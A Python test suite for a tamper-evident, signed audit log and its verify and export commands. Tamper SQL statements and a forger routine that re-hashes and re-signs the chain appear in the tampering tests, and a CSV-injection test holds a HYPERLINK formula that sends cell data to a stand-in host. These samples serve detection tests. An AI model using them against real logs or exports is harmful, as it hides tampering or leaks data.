"""The audit log's chain on SQLite and PostgreSQL: appends from several processes leave one contiguous chain,
and `vcv audit verify` finds every kind of tampering at the first sequence number it touches."""

from __future__ import annotations

import asyncio
import csv
import json
import subprocess
import sys
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from hypothesis import given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, insert, select, text, update

from privacy.audit.chain import (
    GENESIS,
    canonical,
    hash_of_canonical,
    legacy_hash_of_canonical,
    sign_checkpoint,
    time_text,
)
from privacy.audit.keys import generate, load_public_key, load_signing_key
from privacy.audit.store import AuditLog, AuditSettings, checkpoints, events, head, searchable
from privacy.audit.verify import Verdict, export_witness, verify
from resolvers.database import create_engine

VCV = [sys.executable, "-m", "gateway.cli"]


@pytest.fixture
def audit_url(empty_db_url: str) -> str:
    return empty_db_url


@pytest.fixture
def keys(tmp_path: Path) -> tuple[Path, Path]:
    return generate(tmp_path / "keys")


async def _log(url: str, keys: tuple[Path, Path], events: int, every: int = 10) -> None:
    engine = create_engine(url, write_lock_first=True)
    try:
        log = AuditLog(engine, load_signing_key(keys[0]), AuditSettings(checkpoint_every=every))
        await log.ensure_schema()
        # Concurrent records share transactions (group commit) and still get consecutive numbers.
        seqs = await asyncio.gather(*(log.record({"n": n, "customers": [f"C-{n:06d}"], "outcome": "allowed"})
                                      for n in range(events)))
        assert sorted(seqs) == list(range(1, events + 1))
    finally:
        await engine.dispose()


async def _sql(url: str, *statements: str) -> None:
    engine = create_engine(url)
    try:
        async with engine.begin() as conn:
            for statement in statements:
                await conn.execute(text(statement))
    finally:
        await engine.dispose()


def _verify_cli(url: str, *extra: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*VCV, "audit", "verify", "--db", url, *extra], capture_output=True, text=True, timeout=60)


async def _same_in_parallel(url: str, keys: tuple[Path, Path], witness: Path | None = None) -> Verdict:
    """The verdict of `verify`, and proof that worker processes checking the log in ranges of a few events each
    (joined at every kind of boundary: a range ending on a checkpoint, on the touched event, just before it)
    come to exactly the same one: the same first sequence number, reason and counts."""
    engine = create_engine(url)
    try:
        key = load_public_key(keys[1])
        alone = await verify(engine, key, witness)
        for chunk in (3, 4, 7, 10):
            assert await verify(engine, key, witness, workers=2, chunk=chunk) == alone, chunk
    finally:
        await engine.dispose()
    return alone


async def test_an_untouched_log_verifies(audit_url: str, keys: tuple[Path, Path], tmp_path: Path) -> None:
    await _log(audit_url, keys, 35)
    result = _verify_cli(audit_url, "--public-key", str(keys[1]))
    assert result.returncode == 0, result.stderr
    # Checkpoints kept at 10, 20, 30, and the signed head at 35 (the last commit).
    assert result.stdout.strip() == "intact: 35 events, 4 signed checkpoints"
    assert str(await _same_in_parallel(audit_url, keys)) == result.stdout.strip()


async def _rewrite(url: str, start: int, change: Callable[[dict[str, Any]], None] | None = None,
                   resign: Ed25519PrivateKey | None = None) -> None:
    """What a forger with write access to the database does: change events from `start` on and re-hash the
    chain after them so that it links up again (and, given a key, sign every checkpoint and the head anew)."""
    engine = create_engine(url)
    try:
        async with engine.begin() as conn:
            before = (await conn.execute(select(events.c.hash).where(events.c.seq == start - 1))).scalar()
            previous = before or GENESIS
            rows = list(await conn.execute(select(events.c.seq, events.c.recorded_at, events.c.body)
                                           .where(events.c.seq >= start).order_by(events.c.seq)))
            rehashed: dict[int, str] = {}
            for seq, recorded_at, text_body in rows:
                body = json.loads(text_body)
                if change is not None and seq == start:
                    change(body)
                moment = recorded_at if recorded_at.tzinfo else recorded_at.replace(tzinfo=UTC)
                current = hash_of_canonical(seq, previous, time_text(moment), canonical(body))
                await conn.execute(update(events).where(events.c.seq == seq).values(
                    prev_hash=previous, hash=current, body=canonical(body).decode(), **searchable(body)))
                rehashed[seq] = previous = current
            if resign is not None:
                for table in (checkpoints, head):
                    for seq, in list(await conn.execute(select(table.c.seq))):
                        new_hash = rehashed.get(seq) or (await conn.execute(
                            select(events.c.hash).where(events.c.seq == seq))).scalar_one()
                        await conn.execute(update(table).where(table.c.seq == seq).values(
                            hash=new_hash, signature=sign_checkpoint(resign, seq, new_hash)))
    finally:
        await engine.dispose()


def _refused(body: dict[str, Any]) -> None:
    body["outcome"] = "refused"


# Each tamper class of docs/compliance.md ("How tampering is detected"), on a log of 35 events with checkpoints
# kept at 10, 20 and 30 and the signed head at 35, and the sequence number `verify` must name.
TAMPERING: dict[str, tuple[list[str] | Callable[[str], Awaitable[None]], int, str]] = {
    # an event's content edited (the who or why of an access rewritten)
    "edit": (["UPDATE audit_events SET body = replace(body, 'allowed', 'refused') WHERE seq = 7"], 7, "hash"),
    # an event deleted from the middle
    "delete": (["DELETE FROM audit_events WHERE seq = 12"], 12, "missing"),
    # an event inserted: the later ones renumbered to make room
    "insert": (["UPDATE audit_events SET seq = seq + 1000 WHERE seq >= 20",
                "UPDATE audit_events SET seq = seq - 999 WHERE seq >= 1020",
                "INSERT INTO audit_events (seq, prev_hash, hash, recorded_at, body, outcome) SELECT 20, 'x', hash, "
                "recorded_at, body, outcome FROM audit_events WHERE seq = 19"], 20, "chain"),
    # two events swapped
    "reorder": (["UPDATE audit_events SET seq = -1 WHERE seq = 5", "UPDATE audit_events SET seq = 5 WHERE seq = 6",
                 "UPDATE audit_events SET seq = 6 WHERE seq = -1"], 5, "chain"),
    # an access moved to another day, out of the time range an auditor exports
    "re-time": (["UPDATE audit_events SET recorded_at = '2020-01-01 00:00:00.000000' WHERE seq = 9"], 9,
                "recorded time"),
    # the customer index edited, so that a customer's access report would miss an event
    "search columns": (["DELETE FROM audit_event_customers WHERE seq = 9"], 9, "search columns"),
    # the checkpoints from 20 on deleted (the head too), then events from 20 on edited and re-hashed
    "delete checkpoints and rewrite": (
        lambda url: _sql_then(url, ["DELETE FROM audit_checkpoints WHERE seq >= 20", "DELETE FROM audit_head"],
                              _rewrite(url, 20, _refused)), 11, "not covered by a signed checkpoint"),
    # every checkpoint kept; the events after the last kept one edited and re-hashed
    "rewrite the tail": (lambda url: _rewrite(url, 32, _refused), 35, "signed head"),
    # the newest events cut off together with their checkpoints and the head
    "cut the tail": (["DELETE FROM audit_events WHERE seq > 25", "DELETE FROM audit_checkpoints WHERE seq > 25",
                      "DELETE FROM audit_head"], 21,
                     "not covered by a signed checkpoint"),
    # the newest events cut off, their checkpoints left behind
    "cut the tail, checkpoints kept": (["DELETE FROM audit_events WHERE seq > 25"], 26, "tail was cut"),
    # a checkpoint's signature replaced
    "forged signature": (["UPDATE audit_checkpoints SET signature = replace(signature, substr(signature, 1, 2), "
                          "CASE WHEN substr(signature, 1, 2) = 'aa' THEN 'bb' ELSE 'aa' END) WHERE seq = 20"], 20,
                         "signature is not the audit key's"),
    "forged head signature": (["UPDATE audit_head SET signature = replace(signature, substr(signature, 1, 2), "
                               "CASE WHEN substr(signature, 1, 2) = 'aa' THEN 'bb' ELSE 'aa' END)"], 35,
                              "signature is not the audit key's"),
    # everything rewritten from event 3 on and signed anew with the forger's own key
    "swapped key": (lambda url: _rewrite(url, 3, _refused, resign=Ed25519PrivateKey.generate()), 10,
                    "signature is not the audit key's"),
}


async def _sql_then(url: str, statements: list[str], then: Awaitable[None]) -> None:
    await _sql(url, *statements)
    await then


@pytest.mark.parametrize("tamper", list(TAMPERING))
async def test_tampering_is_found_at_the_first_touched_event(audit_url: str, keys: tuple[Path, Path],
                                                             tamper: str) -> None:
    how, broken_at, reason = TAMPERING[tamper]
    await _log(audit_url, keys, 35)
    if isinstance(how, list):
        await _sql(audit_url, *how)
    else:
        await how(audit_url)
    result = _verify_cli(audit_url, "--public-key", str(keys[1]))
    assert result.returncode == 1, result.stdout
    assert f"broken at sequence number {broken_at}:" in result.stderr, result.stderr
    assert reason in result.stderr, result.stderr
    assert str(await _same_in_parallel(audit_url, keys)) in result.stderr


async def test_a_tail_cut_at_a_kept_checkpoint_is_found_against_the_witness(audit_url: str, keys: tuple[Path, Path],
                                                                            tmp_path: Path) -> None:
    await _log(audit_url, keys, 35)
    witness = tmp_path / "witness.jsonl"
    engine = create_engine(audit_url)
    try:
        assert await export_witness(engine, witness) == 4  # 10, 20, 30 and the head at 35
        assert await export_witness(engine, witness) == 0  # only new checkpoints are added
    finally:
        await engine.dispose()
    # Cutting the log back to a kept checkpoint, with the head, leaves a chain consistent in itself...
    await _sql(audit_url, "DELETE FROM audit_events WHERE seq > 20", "DELETE FROM audit_checkpoints WHERE seq > 20",
               "DELETE FROM audit_head")
    assert _verify_cli(audit_url, "--public-key", str(keys[1])).returncode == 0
    # ...but not with the checkpoints kept outside the database.
    result = _verify_cli(audit_url, "--public-key", str(keys[1]), "--witness", str(witness))
    assert result.returncode == 1 and "broken at sequence number 21:" in result.stderr
    assert "a witnessed checkpoint is at 30 (its tail was cut)" in result.stderr
    assert str(await _same_in_parallel(audit_url, keys, witness)) in result.stderr


async def test_the_gateway_side_witness_catches_a_cut_tail(audit_url: str, keys: tuple[Path, Path],
                                                           tmp_path: Path) -> None:
    """The log writes every commit's signed checkpoints to its witness file itself, no cron job needed."""
    witness = tmp_path / "witness.jsonl"
    engine = create_engine(audit_url, write_lock_first=True)
    try:
        log = AuditLog(engine, load_signing_key(keys[0]), AuditSettings(checkpoint_every=10, witness=witness))
        for n in range(23):  # one commit each: the witness gets each commit's head, and 10 and 20
            await log.record({"n": n})
        log.close()
    finally:
        await engine.dispose()
    assert [json.loads(line)["seq"] for line in witness.read_text().splitlines()] == list(range(1, 24))
    assert _verify_cli(audit_url, "--public-key", str(keys[1]), "--witness", str(witness)).returncode == 0
    await _sql(audit_url, "DELETE FROM audit_events WHERE seq > 20", "DELETE FROM audit_checkpoints WHERE seq > 20",
               "DELETE FROM audit_head")
    result = _verify_cli(audit_url, "--public-key", str(keys[1]), "--witness", str(witness))
    assert result.returncode == 1 and "broken at sequence number 21:" in result.stderr, result.stderr


async def test_a_commit_without_a_checkpoint_is_reported(audit_url: str, keys: tuple[Path, Path]) -> None:
    await _log(audit_url, keys, 15)
    engine = create_engine(audit_url, write_lock_first=True)
    try:  # a writer without the signing key (or one that deleted the head after writing) appends two events
        log = AuditLog(engine, None)
        await log.append([{"n": 100}, {"n": 101}])
    finally:
        await engine.dispose()
    result = _verify_cli(audit_url, "--public-key", str(keys[1]))
    assert result.returncode == 1
    assert "broken at sequence number 16: events 16–17 are not covered by a signed checkpoint" in result.stderr


async def test_events_in_the_older_format_after_an_unsigned_commit_do_not_hide_it(audit_url: str,
                                                                                  keys: tuple[Path, Path]) -> None:
    """Older-format events need no signature after them, but they do not excuse newer ones before them that have
    none: the verdict names the first unsigned event, also when worker processes check the log in ranges."""
    await _log(audit_url, keys, 15)
    engine = create_engine(audit_url, write_lock_first=True)
    try:
        await AuditLog(engine, None).append([{"n": 100}, {"n": 101}])  # 16 and 17, signed by no one
        async with engine.begin() as conn:
            previous = (await conn.execute(select(events.c.hash).where(events.c.seq == 17))).scalar_one()
            for seq in range(18, 25):  # then appended in the older format, as if written before the upgrade
                body = {"n": seq, "outcome": "allowed"}
                current = legacy_hash_of_canonical(seq, previous, canonical(body))
                await conn.execute(insert(events).values(seq=seq, prev_hash=previous, hash=current,
                                                         recorded_at=datetime.now(UTC), body=canonical(body).decode(),
                                                         **searchable(body)))
                previous = current
    finally:
        await engine.dispose()
    verdict = await _same_in_parallel(audit_url, keys)
    assert str(verdict) == ("broken at sequence number 16: events 16–24 are not covered by a signed checkpoint (a "
                            "commit without its checkpoint, or events rewritten after the checkpoints were deleted)")


async def test_verify_does_not_call_a_log_intact_without_checking_signatures(audit_url: str,
                                                                            keys: tuple[Path, Path]) -> None:
    await _log(audit_url, keys, 12)
    refused = _verify_cli(audit_url)
    assert refused.returncode == 2 and "--public-key" in refused.stderr and "intact" not in refused.stdout
    unsigned = _verify_cli(audit_url, "--no-signatures")
    assert unsigned.returncode == 0, unsigned.stderr
    assert unsigned.stdout.startswith("unsigned: 12 events chain together") and "intact" not in unsigned.stdout
    # Told not to check signatures, it still checks the chain.
    await _sql(audit_url, "UPDATE audit_events SET body = replace(body, 'allowed', 'refused') WHERE seq = 4")
    assert "broken at sequence number 4:" in _verify_cli(audit_url, "--no-signatures").stderr


async def test_a_log_written_before_the_time_was_hashed_still_verifies(audit_url: str, keys: tuple[Path, Path]) -> None:
    """Format 1 (no recorded time in the hash, no signed head) as the previous release wrote it, then appended to
    by this one: intact, and the verdict says how many events have a recorded time nothing protects."""
    key = load_signing_key(keys[0])
    engine = create_engine(audit_url, write_lock_first=True)
    try:
        await AuditLog(engine, None).ensure_schema()
        async with engine.begin() as conn:
            await conn.execute(delete(head))  # as if the table had never been there
            previous, now = GENESIS, datetime.now(UTC)
            for seq in range(1, 13):
                body = {"n": seq, "outcome": "allowed"}
                current = legacy_hash_of_canonical(seq, previous, canonical(body))
                await conn.execute(insert(events).values(seq=seq, prev_hash=previous, hash=current, recorded_at=now,
                                                         body=canonical(body).decode(), **searchable(body)))
                if seq == 10:
                    await conn.execute(insert(checkpoints).values(seq=seq, hash=current, signed_at=now,
                                                                  signature=sign_checkpoint(key, seq, current)))
                previous = current
        old = _verify_cli(audit_url, "--public-key", str(keys[1]))
        assert old.returncode == 0, old.stderr
        assert old.stdout.strip() == ("intact: 12 events, 1 signed checkpoints; 12 events in the older format "
                                      "(before vcv-audit/2): their recorded time is not covered by the hash")
        await AuditLog(engine, key).append([{"n": 13, "outcome": "allowed"}])
    finally:
        await engine.dispose()
    upgraded = _verify_cli(audit_url, "--public-key", str(keys[1]))
    assert upgraded.returncode == 0, upgraded.stderr
    assert upgraded.stdout.startswith("intact: 13 events, 2 signed checkpoints; 12 events in the older format")
    assert str(await _same_in_parallel(audit_url, keys)) == upgraded.stdout.strip()


async def test_the_wrong_public_key_fails_verification(audit_url: str, keys: tuple[Path, Path],
                                                      tmp_path: Path) -> None:
    await _log(audit_url, keys, 12)
    other = generate(tmp_path / "other")[1]
    result = _verify_cli(audit_url, "--public-key", str(other))
    assert result.returncode != 0 and "broken at sequence number 10: the checkpoint's signature" in result.stderr


WRITER = """
import asyncio, sys
from privacy.audit.keys import load_signing_key
from privacy.audit.store import AuditLog, AuditSettings
from resolvers.database import create_engine
from pathlib import Path

async def main(url, writer, count, key):
    engine = create_engine(url, write_lock_first=True)
    log = AuditLog(engine, load_signing_key(Path(key)), AuditSettings(checkpoint_every=25))
    await log.ensure_schema()
    for start in range(0, count, 7):  # waves of concurrent requests, as a busy gateway process sees them
        await asyncio.gather(*(log.record({"writer": writer, "n": n}) for n in range(start, min(start + 7, count))))
    await engine.dispose()

asyncio.run(main(sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]))
"""


async def test_several_processes_append_one_contiguous_chain(audit_url: str, keys: tuple[Path, Path]) -> None:
    writers, count = 3, 120
    processes = [await asyncio.create_subprocess_exec(sys.executable, "-c", WRITER, audit_url, f"w{i}", str(count),
                                                      str(keys[0]), stderr=asyncio.subprocess.PIPE)
                 for i in range(writers)]
    for process in processes:
        _, stderr = await process.communicate()
        assert process.returncode == 0, stderr.decode()
    engine = create_engine(audit_url)
    try:
        verdict = await verify(engine, load_public_key(keys[1]))
        log = AuditLog(engine, None)
        bodies = [row["body"] for row in await log.read()]
    finally:
        await engine.dispose()
    assert verdict.intact and verdict.events == writers * count, verdict
    assert verdict.checkpoints == writers * count // 25 + 1  # and the signed head at the last event
    assert sorted((b["writer"], b["n"]) for b in bodies) == sorted((f"w{i}", n) for i in range(writers)
                                                                   for n in range(count))


async def test_an_unusable_store_refuses_instead_of_losing_events(tmp_path: Path) -> None:
    from privacy.audit.store import AuditUnavailable

    engine = create_engine("postgresql+asyncpg://audit:pw@127.0.0.1:9/nowhere")
    try:
        log = AuditLog(engine, Ed25519PrivateKey.generate())
        with pytest.raises(AuditUnavailable) as caught:
            await log.record({"n": 1})
        assert "pw" not in str(caught.value) and "127.0.0.1" not in str(caught.value)
    finally:
        await engine.dispose()


async def test_export_filters_by_customer_and_time_as_jsonl_or_csv(audit_url: str, keys: tuple[Path, Path]) -> None:
    await _log(audit_url, keys, 35)

    def export(*args: str) -> list[str]:
        result = subprocess.run([*VCV, "audit", "export", "--db", audit_url, *args], capture_output=True, text=True,
                                timeout=60)
        assert result.returncode == 0, result.stderr
        return result.stdout.splitlines()

    [line] = export("--customer", "C-000005")
    record = json.loads(line)
    assert record["event"]["customers"] == ["C-000005"] and record["seq"] == 6 and len(record["hash"]) == 64
    rows = list(csv.DictReader(export("--format", "csv")))
    assert [int(r["seq"]) for r in rows] == list(range(1, 36)) and rows[0]["outcome"] == "allowed"
    assert len(export("--since", "2000-01-01T00:00:00")) == 35
    assert export("--since", "2999-01-01T00:00:00") == []
    assert export("--until", "2000-01-01T00:00:00") == []


async def test_checkpoints_also_come_with_time_not_only_with_volume(audit_url: str, keys: tuple[Path, Path]) -> None:
    engine = create_engine(audit_url, write_lock_first=True)
    try:
        log = AuditLog(engine, load_signing_key(keys[0]), AuditSettings(checkpoint_every=1000, checkpoint_seconds=0))
        for n in range(3):  # a quiet log: three requests, far fewer than 1,000 events
            await log.record({"n": n})
        verdict = await verify(engine, load_public_key(keys[1]))
    finally:
        await engine.dispose()
    assert verdict.intact and verdict.checkpoints == 3, verdict


async def test_a_rotated_signing_key_verifies_with_both_public_halves(audit_url: str, keys: tuple[Path, Path],
                                                                      tmp_path: Path) -> None:
    await _log(audit_url, keys, 15)  # checkpoint at 10 with the first key
    new_private, new_public = generate(tmp_path / "rotated")
    engine = create_engine(audit_url, write_lock_first=True)
    try:
        log = AuditLog(engine, load_signing_key(new_private), AuditSettings(checkpoint_every=10))
        for n in range(10):  # checkpoint at 20 with the new key
            await log.record({"n": 100 + n})
    finally:
        await engine.dispose()
    old_only = _verify_cli(audit_url, "--public-key", str(keys[1]))
    assert old_only.returncode != 0 and "broken at sequence number 20:" in old_only.stderr
    both = _verify_cli(audit_url, "--public-key", str(keys[1]), "--public-key", str(new_public))
    assert both.returncode == 0 and "intact: 25 events, 3 signed checkpoints" in both.stdout, both.stderr


async def test_csv_export_keeps_caller_chosen_text_from_running_as_a_formula(audit_url: str,
                                                                             keys: tuple[Path, Path]) -> None:
    """A caller picks its own X-Request-ID; exported to CSV it must stay text in a spreadsheet."""
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+1", "-2+3", "@SUM(A1:A9)", "\tTAB", "plain-id"]
    engine = create_engine(audit_url, write_lock_first=True)
    try:
        log = AuditLog(engine, load_signing_key(keys[0]))
        await log.append([{"request_id": rid, "outcome": "refused", "operation": {"name": "=1+2"}} for rid in hostile])
    finally:
        await engine.dispose()
    result = subprocess.run([*VCV, "audit", "export", "--db", audit_url, "--format", "csv"], capture_output=True,
                            text=True, timeout=60)
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(result.stdout.splitlines()))
    assert [r["request_id"] for r in rows] == ["'" + rid for rid in hostile[:-1]] + ["plain-id"]
    assert {r["operation"] for r in rows} == {"'=1+2"}
    # JSON Lines, which no spreadsheet evaluates, keep the text exactly as logged.
    jsonl = subprocess.run([*VCV, "audit", "export", "--db", audit_url], capture_output=True, text=True, timeout=60)
    assert [json.loads(line)["event"]["request_id"] for line in jsonl.stdout.splitlines()] == hostile


# What an audit event can hold: text (any, but lone surrogates), integers, latencies rounded to hundredths of a
# millisecond, flags, nulls, lists and objects of them.
_EVENT_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers(-(2**63), 2**63 - 1) | st.text(st.characters(exclude_categories=["Cs"]))
    | st.floats(0, 1e9).map(lambda ms: round(ms, 2)),
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=8), inner, max_size=5),
    max_leaves=30)


@settings(max_examples=300, deadline=None)
@given(st.dictionaries(st.text(max_size=12), _EVENT_VALUES, max_size=8))
def test_canonical_bytes_are_those_the_json_module_wrote(body: dict[str, Any]) -> None:
    # Events written before orjson took over are hashed over json's bytes: the same form, byte for byte, keeps
    # one canonical form for the whole log (and for any tool that re-serialises a body to check it).
    assert canonical(body) == json.dumps(body, sort_keys=True, separators=(",", ":"),
                                         ensure_ascii=False).encode("utf-8")


def test_canonical_takes_the_json_modules_way_for_what_orjson_refuses() -> None:
    huge = {"count": 2**70, "7": "x"}
    assert canonical(huge) == b'{"7":"x","count":1180591620717411303424}'
    with pytest.raises(UnicodeEncodeError):  # a lone surrogate is no UTF-8, whichever writes it
        canonical({"name": "\ud800"})
